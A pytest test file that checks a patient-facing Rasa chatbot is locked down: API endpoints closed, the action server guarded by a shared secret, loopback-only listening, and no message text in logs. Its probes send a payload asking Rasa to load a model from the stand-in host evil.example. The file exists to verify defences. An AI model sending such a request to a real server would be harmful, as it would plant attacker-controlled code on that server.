"""Closed by default, with the real Rasa server and action server started as `make run` starts them
(bot.run.processes.rasa_server_args / action_server_args): Rasa serves its REST channel but not its HTTP API (no
tracker reads, no model loading from a URL), the action server refuses requests without the shared secret,
both listen on 127.0.0.1 only, and what a patient wrote does not reach Rasa's log."""

from __future__ import annotations

import secrets
from pathlib import Path

import httpx
import pytest

from bot.run.processes import action_server_args, rasa_server_args
from tests.integration.test_action_server import action_call, listening_addresses

pytestmark = [pytest.mark.e2e, pytest.mark.rasa]

NOT_SERVED = {401, 403, 404, 405}


def test_make_runs_rasa_command_line_has_no_api_and_no_secret() -> None:
    args = rasa_server_args(5005, Path("model.tar.gz"), Path("endpoints.yml"), Path("credentials.yml"))
    assert "--enable-api" not in args and "--auth-token" not in args
    assert args[args.index("-i") + 1] == "127.0.0.1"
    assert not [arg for arg in action_server_args(5055) if "token" in arg.lower()]


def test_rasa_serves_the_rest_channel_but_not_its_api(servers) -> None:
    url = servers.rasa_url
    marker = f"zebra{secrets.token_hex(4)}"
    reply = httpx.post(
        f"{url}/webhooks/rest/webhook", json={"sender": f"closed-{marker}", "message": f"hello {marker}"}, timeout=60
    )
    assert reply.status_code == 200 and reply.json(), reply.text  # the gateway's way in works
    for method, path in [
        ("GET", f"/conversations/closed-{marker}/tracker"),
        ("PUT", "/model"),
        ("POST", f"/conversations/closed-{marker}/tracker/events"),
        ("POST", "/model/parse"),
        ("GET", "/status"),
        ("GET", "/domain"),
    ]:
        response = httpx.request(
            method, f"{url}{path}", json={"model_file": "http://evil.example/m.tar.gz"}, timeout=30
        )
        assert response.status_code in NOT_SERVED, (method, path, response.status_code, response.text[:200])
    assert marker not in servers.processes["rasa"].log_tail(2_000_000)  # LOG_LEVEL pinned: no message text


def test_the_action_server_refuses_rasa_impostors(servers) -> None:
    url = f"http://127.0.0.1:{servers.action_port}"
    assert httpx.post(f"{url}/webhook", json=action_call(), timeout=30).status_code == 401
    served = httpx.post(f"{url}/webhook", params={"token": servers.action_token}, json=action_call(), timeout=60)
    assert served.status_code == 200, served.text


def test_both_listen_on_loopback_only(servers) -> None:
    assert listening_addresses(servers.processes["rasa"].pid, servers.rasa_port) == {"0100007F"}
    assert listening_addresses(servers.processes["actions"].pid, servers.action_port) == {"0100007F"}
